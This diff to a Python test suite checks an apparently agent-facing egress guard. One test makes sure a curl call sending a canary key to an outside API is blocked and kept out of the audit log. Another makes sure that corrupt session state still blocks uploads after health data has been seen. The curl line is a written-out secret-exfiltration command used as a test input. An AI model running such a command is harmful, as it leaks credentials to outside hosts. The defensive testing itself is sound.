@@ -92,3 +92,15 @@ def test_egress_reason_names_the_host_only(guard: GuardEnv, run) -> None:
     answer = run(guard.tool("Bash", command=f"curl -s 'https://api.example.net/v1?key={canary}'"))
     assert answer.exit_code == 2 and "api.example.net" in answer.stderr
     assert canary not in answer.stderr and canary not in guard.audit_text()
+
+
+def test_a_corrupt_session_state_keeps_the_rules_that_may_apply(guard: GuardEnv, run) -> None:
+    # A damaged state file must not lift after_phi: what the session saw is then unknown, and
+    # the rules stay as strict as they may have been, saying why.
+    fetch = guard.tool("WebFetch", url="https://example.com/upload", prompt="summarise")
+    _see_phi(guard, run)
+    state = Session("sess-1", guard.guard_home).path
+    state.write_bytes(b"{garbage")
+    answer = run(fetch)
+    assert answer.exit_code == 2
+    assert "may have been seen in this session (its state could not be read)" in answer.stderr
